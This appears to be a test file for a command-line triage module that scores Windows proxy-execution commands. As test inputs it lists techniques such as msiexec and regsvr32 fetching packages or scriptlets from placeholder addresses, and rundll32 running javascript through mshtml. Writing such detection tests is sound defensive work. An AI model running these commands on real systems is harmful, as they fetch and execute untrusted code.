import { judgePayload, readPayload } from '../../../lib/triage';

function weightsOfProxy(destination: string): readonly string[] {
  const found = judgePayload(readPayload({ consumerType: 'Command Line', destination }));
  return [...new Set(found.filter(({ id }) => id === 'proxy').map(({ weight }) => weight))];
}

it.each([
  'msiexec.exe /i C:\\Windows\\ccmcache\\1\\agent.msi /qn',
  'msiexec /qn /i "D:\\Install\\An Agent\\agent.msi" TRANSFORMS=D:\\Install\\agent.mst',
  'rundll32.exe C:\\Windows\\System32\\tscfgwmi.dll,Run',
  '"C:\\Windows\\System32\\rundll32.exe" "C:\\Program Files\\Vendor\\agent.dll",Start now',
  'regsvr32 /s C:\\Windows\\System32\\vbscript.dll',
  'cmd /c msiexec /i C:\\Install\\agent.msi',
])('local files alone weigh less: %s', (destination) => {
  expect(weightsOfProxy(destination)).toEqual(['medium']);
});

it.each([
  ['an address', 'msiexec /q /i http://192.0.2.7/a.msi'],
  ['a share', 'msiexec /i \\\\srv\\share\\a.msi'],
  ['a share beside a local file', 'msiexec /i C:\\Install\\a.msi TRANSFORMS=\\\\srv\\share\\a.mst'],
  ['a writable place', 'rundll32 C:\\Users\\Public\\a.dll,Start'],
  ['a writable place behind ..', 'rundll32 C:\\Windows\\System32\\..\\Temp\\a.dll,Start'],
  ['a short name', 'rundll32 C:\\PROGRA~3\\a.dll,Start'],
  ['a stream', 'rundll32 C:\\Windows\\win.ini:a.dll,Start'],
  ['a variable', 'msiexec /i %TEMP%\\a.msi'],
  ['a name without a folder', 'rundll32 a.dll,Start'],
  ['no file', 'msiexec /x {00000000-0000-0000-0000-000000000000} /qn'],
  ['a file of another kind', 'rundll32 C:\\Install\\a.txt,Start'],
  ['a library that runs its arguments', 'rundll32 C:\\Windows\\System32\\shell32.dll,ShellExec_RunDLL cmd'],
  ['script', 'rundll32 javascript:"\\..\\mshtml,RunHTMLApplication ";C:\\a\\b.dll'],
  ['a scriptlet', 'regsvr32 /s /n /u /i:C:\\Install\\a.sct C:\\Windows\\System32\\scrobj.dll'],
  ['a scriptlet of an address', 'regsvr32 /s /u /i:http://a.example/x.sct scrobj.dll'],
  ['a program that runs any code', 'msbuild C:\\Install\\a.xml'],
  ['a local file and a program that fetches', 'cmd /c mshta C:\\Install\\a.hta'],
])('%s does not: %s', (_, destination) => {
  expect(weightsOfProxy(destination)).toContain('high');
});
